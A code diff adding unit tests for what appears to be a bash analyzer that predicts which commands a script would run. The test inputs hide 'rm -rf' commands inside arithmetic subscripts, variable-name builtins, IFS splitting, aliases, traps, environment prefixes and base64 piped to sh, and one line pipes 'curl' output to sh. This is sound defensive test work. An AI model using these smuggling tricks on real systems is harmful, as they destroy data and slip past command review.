@@ -234,7 +234,146 @@ TEST(Evaluate, ParameterOperandWithSubstitutionIsSafe) {
   const Invocation& echo = e.invocations.back();
   ASSERT_EQ(echo.argv.size(), 3u);
   EXPECT_EQ(echo.argv[1].text, "a");
-  EXPECT_FALSE(echo.argv[2].known);
+  // $(x=2) prints nothing, so ${x%} is x itself.
+  EXPECT_EQ(echo.argv[2].text, "/a");
+}
+
+}  // namespace
+}  // namespace dualkey::shell
+
+namespace dualkey::shell {
+namespace {
+
+bool RanCommand(const Evaluated& e, std::string_view argv) {
+  for (std::size_t i = 0; i < e.invocations.size(); ++i)
+    if (e.Argv(i) == argv) return true;
+  return false;
+}
+
+TEST(Evaluate, SubstitutionsInsideArithmeticRun) {
+  EXPECT_TRUE(RanCommand(Eval("echo $((1 + $(rm -rf /x; echo 1)))"), "rm -rf /x"));
+  EXPECT_TRUE(RanCommand(Eval("(( a[$(rm -rf /x)] ))"), "rm -rf /x"));
+  EXPECT_TRUE(RanCommand(Eval("for ((i=$(rm -rf /x); i<2; i++)); do :; done"), "rm -rf /x"));
+}
+
+TEST(Evaluate, ArithmeticValuesAreComputed) {
+  Evaluated e = Eval("n=4; echo $(( (n + 2) * 3 )) $((7 % 4)) $((x))");
+  EXPECT_EQ(e.Argv(0), "echo 18 3 0");
+  EXPECT_FALSE(Eval("read n; echo $((n+1))").invocations.back().argv[1].known);
+}
+
+TEST(Evaluate, VariablesHoldingSubscriptsRunWhenEvaluatedArithmetically) {
+  // x is evaluated as an expression; the subscript in its value runs.
+  EXPECT_TRUE(RanCommand(Eval("x='a[$(rm -rf /x)]'; echo $((x))"), "rm -rf /x"));
+  EXPECT_TRUE(RanCommand(Eval("x='a[$(rm -rf /x)]'; [[ $x -eq 0 ]]"), "rm -rf /x"));
+  EXPECT_TRUE(RanCommand(Eval("x='a[$(rm -rf /x)]'; declare -i y; declare -i y=$x"), "rm -rf /x"));
+}
+
+TEST(Evaluate, BuiltinsThatTakeVariableNamesEvaluateSubscripts) {
+  for (const char* script :
+       {"test -v 'a[$(rm -rf /x)]'", "[ -v 'a[$(rm -rf /x)]' ]", "[[ -v a[$(rm -rf /x)] ]]",
+        "printf -v 'a[$(rm -rf /x)]' %s 1", "read 'a[$(rm -rf /x)]' <<< v",
+        "unset 'a[$(rm -rf /x)]'", "declare 'a[$(rm -rf /x)]=1'", "a[$(rm -rf /x)]=1",
+        "echo ${a[$(rm -rf /x)]}", "ref='a[$(rm -rf /x)]'; echo ${!ref}",
+        "mapfile -t 'a[$(rm -rf /x)]' < f", "let 'y=$(rm -rf /x)'"}) {
+    EXPECT_TRUE(RanCommand(Eval(script), "rm -rf /x")) << script;
+  }
+}
+
+TEST(Evaluate, PrintfVAssignsTheFormattedValue) {
+  Evaluated e = Eval("printf -v cmd '%s -%s %s' rm rf /x; $cmd");
+  EXPECT_TRUE(RanCommand(e, "rm -rf /x"));
+}
+
+TEST(Evaluate, FieldSplittingFollowsIfs) {
+  EXPECT_EQ(Eval("IFS=,; c=rm,-rf,/x; $c").Argv(0), "rm -rf /x");
+  EXPECT_EQ(Eval("IFS=:; c='a::b'; printf %s $c").invocations[0].argv.size(), 5u);  // a "" b
+  EXPECT_EQ(Eval("c='a b'; IFS=; echo $c").invocations[0].argv.size(), 2u);         // no splitting
+  Evaluated unknown = Eval("IFS=$(cat sep); c=rm,-rf,/x; $c");
+  EXPECT_FALSE(unknown.invocations.back().argv[0].known);
+  EXPECT_EQ(Eval("x='a '; echo ${x}b").Argv(0), "echo a b");
+}
+
+TEST(Evaluate, AliasesExpandLikeBash) {
+  EXPECT_TRUE(RanCommand(Eval("alias x='rm -rf'; x /y"), "rm -rf /y"));
+  EXPECT_TRUE(RanCommand(Eval("alias a=b; alias b='rm -rf /y'; a"), "rm -rf /y"));
+  Evaluated self = Eval("alias ls='ls -l'; ls /tmp");
+  EXPECT_TRUE(RanCommand(self, "ls -l /tmp"));
+  EXPECT_FALSE(Eval("alias x=\"$(cat f)\"; x").opaque.empty());
+}
+
+TEST(Evaluate, TrapHandlersAndNotFoundHandlerRunAtExit) {
+  EXPECT_TRUE(RanCommand(Eval("trap cleanup EXIT; cleanup() { rm -rf /y; }"), "rm -rf /y"));
+  EXPECT_TRUE(RanCommand(Eval("trap 'rm -rf /y' INT TERM"), "rm -rf /y"));
+  EXPECT_FALSE(Eval("trap \"$HANDLER\" EXIT").opaque.empty());
+  EXPECT_TRUE(Eval("trap - EXIT; trap '' INT; trap -p").opaque.empty());
+  EXPECT_TRUE(RanCommand(Eval("command_not_found_handle() { rm -rf /y; }; foo"), "rm -rf /y"));
+}
+
+TEST(Evaluate, HashPMapsANameToAProgram) {
+  EXPECT_TRUE(RanCommand(Eval("hash -p /bin/rm tidy; tidy -rf /y"), "/bin/rm -rf /y"));
+}
+
+TEST(Evaluate, ChildShellsGetExportedVariablesAndFunctions) {
+  Evaluated e = Eval("f() { rm -rf /y; }; export -f f; X=1; export X; bash -c f");
+  ASSERT_FALSE(e.invocations.empty());
+  const Invocation& bash = e.invocations.back();
+  ASSERT_TRUE(bash.env);
+  EXPECT_TRUE(bash.env->functions.contains("f"));
+  EXPECT_TRUE(bash.env->variables.contains("X"));
+  Evaluated prefix = Eval("GIT_SSH_COMMAND='rm -rf /y' git fetch");
+  ASSERT_TRUE(prefix.invocations.back().env);
+  EXPECT_EQ(prefix.invocations.back().EnvValue("GIT_SSH_COMMAND")->text, "rm -rf /y");
+  EXPECT_FALSE(Eval("ls").invocations.back().env);  // nothing exported: no environment
+}
+
+TEST(Evaluate, PipelinesCarryPredictableOutput) {
+  Evaluated e = Eval("printf 'rm -rf %s\\n' /y | sh");
+  ASSERT_EQ(e.invocations.size(), 2u);
+  ASSERT_TRUE(e.invocations[1].piped_text);
+  EXPECT_EQ(*e.invocations[1].piped_text, "rm -rf /y\n");
+  Evaluated decoded = Eval("echo cm0gLXJmIC95 | base64 -d | sh");
+  ASSERT_TRUE(decoded.invocations[2].piped_text);
+  EXPECT_EQ(*decoded.invocations[2].piped_text, "rm -rf /y");
+  EXPECT_FALSE(Eval("curl -s https://x | sh").invocations[1].piped_text);
+}
+
+TEST(Evaluate, SubstitutionValuesComeFromPrintfAndCat) {
+  EXPECT_TRUE(RanCommand(Eval("V=$(printf 'rm%s' ' -rf /y'); eval \"$V\"; $V"), "rm -rf /y"));
+  EXPECT_EQ(Eval("x=$(printf '%05d' 42); echo $x").Argv(1), "echo 00042");
+}
+
+TEST(EvaluateBudget, ExpansionStopsAtTheByteBudget) {
+  std::string chain = "a=xx";
+  for (int i = 0; i < 40; ++i) chain += "; a=$a$a";
+  chain += "; rm -rf \"$a\"";
+  ParseResult parsed = Parse(chain);
+  ASSERT_TRUE(parsed.ok);
+  Recorder recorder;
+  EvalLimits limits;
+  EvalBudget budget(limits);
+  Evaluator evaluator(recorder, {}, "/", "/home/dev", 0, limits, &budget);
+  evaluator.Run(*parsed.list);
+  EXPECT_LE(budget.expanded_bytes(), limits.max_expansion_bytes);
+  EXPECT_TRUE(budget.exhausted());
+  ASSERT_EQ(recorder.opaque.size(), 1u);
+  EXPECT_NE(recorder.opaque[0].find("KiB"), std::string::npos);
+  EXPECT_TRUE(recorder.invocations.empty());  // the rm never ran with a partial word
+}
+
+TEST(EvaluateBudget, ABudgetIsSharedAndReportedOnce) {
+  EvalLimits limits;
+  limits.max_expansion_bytes = 64;
+  EvalBudget budget(limits);
+  Recorder recorder;
+  ParseResult parsed = Parse("a=0123456789012345678901234567890123456789; b=$a$a$a; echo $b");
+  ASSERT_TRUE(parsed.ok);
+  Evaluator first(recorder, {}, "/", "/home/dev", 0, limits, &budget);
+  first.Run(*parsed.list);
+  Evaluator second(recorder, {}, "/", "/home/dev", 1, limits, &budget);
+  second.Run(*parsed.list);
+  EXPECT_EQ(recorder.opaque.size(), 1u);
+  EXPECT_LE(budget.expanded_bytes(), 64u);
 }
 
 }  // namespace
